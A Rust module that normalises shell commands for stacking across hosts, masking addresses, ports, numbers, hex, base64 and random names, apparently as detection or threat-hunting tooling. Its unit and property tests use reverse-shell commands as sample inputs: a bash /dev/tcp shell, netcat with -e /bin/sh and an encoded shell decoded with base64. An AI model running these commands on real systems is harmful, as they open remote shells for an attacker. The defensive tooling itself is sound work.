//! A command with what differs from host to host masked, for stacking.

use std::net::{Ipv4Addr, Ipv6Addr};

use super::shell::decode_base64;
use crate::Text;

/// A normal form is not longer than this.
const LONGEST: usize = 64 * 1024;
/// Base64 shorter than this is not told from a name.
const SHORTEST_BASE64: usize = 24;

/// The command with addresses, ports, process ids, long hexadecimal, base64 and random names
/// replaced by `<address>`, `<port>`, `<number>`, `<hex>`, `<base64>` and `<random>`, and runs of
/// blanks by one blank.
pub fn normal(command: &[u8]) -> Text {
    let kept = command.get(..LONGEST).unwrap_or(command);
    let mut out = Vec::with_capacity(kept.len());
    let mut rest = kept.trim_ascii();
    let mut after_address = false;
    while let Some(&first) = rest.first() {
        let in_word = !separates(first);
        let length = rest.iter().position(|&byte| separates(byte) == in_word).unwrap_or(rest.len());
        let (part, after) = rest.split_at_checked(length).unwrap_or((rest, &[]));
        if in_word {
            after_address = word(part, after_address, &mut out);
        } else {
            after_address &= blank(part);
            separators(part, &mut out);
        }
        rest = after;
    }
    Text::new(out)
}

fn separates(byte: u8) -> bool {
    byte.is_ascii_whitespace() || b"'\"`;|&<>(){},[]@".contains(&byte)
}

fn blank(part: &[u8]) -> bool {
    part.iter().all(u8::is_ascii_whitespace)
}

fn separators(part: &[u8], out: &mut Vec<u8>) {
    let mut last = 0;
    for &byte in part {
        let byte = if byte == b'\t' || byte == b'\r' { b' ' } else { byte };
        if byte != b' ' || last != b' ' {
            out.push(byte);
        }
        last = byte;
    }
}

/// Masks a word; tells whether it ended with an address, so that a port may follow.
fn word(word: &[u8], mut after_address: bool, out: &mut Vec<u8>) -> bool {
    if is_base64(word) {
        out.extend_from_slice(b"<base64>");
        return false;
    }
    let mut first = true;
    for piece in word.split_inclusive(|byte| b"/=".contains(byte)) {
        let (piece, end) = match piece.split_last() {
            Some((end, body)) if b"/=".contains(end) => (body, std::slice::from_ref(end)),
            _ => (piece, &[][..]),
        };
        // The port of `/dev/tcp/host/port` follows the host, whatever the host is.
        after_address |=
            !first && (out.ends_with(b"/dev/tcp/<host>/") || out.ends_with(b"/dev/udp/<host>/"));
        let host = out.ends_with(b"/dev/tcp/") || out.ends_with(b"/dev/udp/");
        after_address = if host && !piece.is_empty() {
            out.extend_from_slice(b"<host>");
            true
        } else {
            masked(piece, after_address, out)
        };
        out.extend_from_slice(end);
        first = false;
    }
    after_address
}

/// Masks what stands between slashes; tells whether it was an address.
fn masked(piece: &[u8], after_address: bool, out: &mut Vec<u8>) -> bool {
    let is_number = !piece.is_empty() && piece.iter().all(u8::is_ascii_digit);
    if after_address && is_number && piece.len() <= 5 {
        out.extend_from_slice(b"<port>");
        return false;
    }
    if let Some(port) = address(piece) {
        out.extend_from_slice(if port { b"<address>:<port>" } else { b"<address>" });
        return !port;
    }
    if let Some((host, port)) = host_and_port(piece) {
        names(host, out);
        out.extend_from_slice(b":<port>");
        let _ = port;
        return false;
    }
    if is_uuid(piece) {
        out.extend_from_slice(b"<uuid>");
    } else {
        names(piece, out);
    }
    false
}

/// Masks the parts of a name between dots, dashes and underscores.
fn names(piece: &[u8], out: &mut Vec<u8>) {
    for part in piece.split_inclusive(|byte| b"._-:+".contains(byte)) {
        let (part, end) = match part.split_last() {
            Some((end, body)) if b"._-:+".contains(end) => (body, std::slice::from_ref(end)),
            _ => (part, &[][..]),
        };
        out.extend_from_slice(mask(part));
        out.extend_from_slice(end);
    }
}

fn mask(part: &[u8]) -> &[u8] {
    let digits = part.iter().filter(|byte| byte.is_ascii_digit()).count();
    let all_hex = part.iter().all(u8::is_ascii_hexdigit);
    if digits == part.len() && digits >= 4 && !part.starts_with(b"0") {
        b"<number>"
    } else if all_hex && part.len() >= 8 && digits >= 2 {
        b"<hex>"
    } else if is_random(part) {
        b"<random>"
    } else {
        part
    }
}

/// Whether it is an address, and then whether a port is with it.
fn address(piece: &[u8]) -> Option<bool> {
    let text = std::str::from_utf8(piece).ok()?;
    if text.parse::<Ipv4Addr>().is_ok() {
        return Some(false);
    }
    if text.len() > 2 && text.contains("::") | (text.matches(':').count() >= 5) {
        return text.parse::<Ipv6Addr>().ok().map(|_| false);
    }
    let (host, port) = text.split_once(':')?;
    host.parse::<Ipv4Addr>().ok()?;
    port.parse::<u16>().ok().map(|_| true)
}

fn host_and_port(piece: &[u8]) -> Option<(&[u8], u16)> {
    let at = memchr::memrchr(b':', piece)?;
    let (host, port) = (piece.get(..at)?, piece.get(at + 1..)?);
    let named = host.iter().all(|byte| byte.is_ascii_alphanumeric() || b".-".contains(byte));
    let port = std::str::from_utf8(port).ok()?.parse().ok()?;
    (named && host.contains(&b'.')).then_some((host, port))
}

fn is_uuid(piece: &[u8]) -> bool {
    let groups: Vec<&[u8]> = piece.split(|&byte| byte == b'-').collect();
    let lengths: Vec<usize> = groups.iter().map(|group| group.len()).collect();
    lengths == [8, 4, 4, 4, 12]
        && groups.iter().all(|group| group.iter().all(u8::is_ascii_hexdigit))
}

/// Encoded text: long, of the alphabet, of mixed letters, and not a path.
fn is_base64(word: &[u8]) -> bool {
    let alphabet = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
    let slashes = memchr::memchr_iter(b'/', word).count();
    word.len() >= SHORTEST_BASE64
        && word.iter().all(alphabet)
        && !word.starts_with(b"/")
        && slashes * 16 <= word.len()
        && word.iter().any(u8::is_ascii_uppercase)
        && word.iter().any(u8::is_ascii_lowercase)
        && (word.iter().any(u8::is_ascii_digit) || word.ends_with(b"="))
        && decode_base64(word).is_some()
}

/// Names as `mktemp` and droppers make them: digits and both cases in a jumble.
fn is_random(part: &[u8]) -> bool {
    let class = |byte: &u8| match byte {
        b'0'..=b'9' => Some(0),
        b'a'..=b'z' => Some(1),
        b'A'..=b'Z' => Some(2),
        _ => None,
    };
    let Some(classes) = part.iter().map(class).collect::<Option<Vec<u8>>>() else { return false };
    let changes = classes.windows(2).filter(|pair| pair.first() != pair.last()).count();
    let all = [0, 1, 2].iter().all(|wanted| classes.contains(wanted));
    part.len() >= 8 && all && changes * 5 >= part.len() * 2
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn form(command: &str) -> String {
        normal(command.as_bytes()).to_string()
    }

    #[test]
    fn addresses_and_ports_are_masked() {
        assert_eq!(
            form("bash -c 'sh -i >& /dev/tcp/192.0.2.7/4444 0>&1'"),
            "bash -c 'sh -i >& /dev/tcp/<host>/<port> 0>&1'"
        );
        assert_eq!(form("nc 198.51.100.2 9001 -e /bin/sh"), "nc <address> <port> -e /bin/sh");
        assert_eq!(form("curl 203.0.113.9:8080/x"), "curl <address>:<port>/x");
        assert_eq!(form("ping6 2001:db8::1"), "ping6 <address>");
        assert_eq!(form("wget http://c.example.org:8443/x"), "wget http://c.example.org:<port>/x");
    }

    #[test]
    fn random_names_hashes_and_numbers_are_masked() {
        assert_eq!(form("/tmp/tmp.aB3dE9xYz1/run"), "/tmp/tmp.<random>/run");
        assert_eq!(form("kill 31337"), "kill <number>");
        assert_eq!(form("x --id deadbeef0123"), "x --id <hex>");
        assert_eq!(form("x --id 123e4567-e89b-12d3-a456-426614174000"), "x --id <uuid>");
        assert_eq!(
            form("echo c2ggLWkgPiYgL2Rldi90Y3AvMTkyLjAuMi43LzQ0NDQ= | base64 -d"),
            "echo <base64> | base64 -d"
        );
    }

    #[test]
    fn ordinary_commands_stay_as_they_are() {
        for command in [
            "[ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; then :; fi",
            "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron -A -r",
            "/usr/bin/python3.11 -m http.server --bind localhost",
            "chmod 0755 /usr/local/bin/backup",
        ] {
            assert_eq!(form(command), command);
        }
    }

    #[test]
    fn blanks_are_counted_once() {
        assert_eq!(form("  a\t\t b "), "a b");
    }

    proptest! {
        #[test]
        fn any_bytes_have_a_normal_form(bytes: Vec<u8>) {
            let _ = normal(&bytes);
        }

        #[test]
        fn the_same_command_on_another_host_has_the_same_form(a in 0..=255u8, b in 1..=65535u16) {
            let here = format!("nc -e /bin/sh 192.0.2.{a} {b}");
            prop_assert_eq!(form(&here), "nc -e /bin/sh <address> <port>");
        }
    }
}
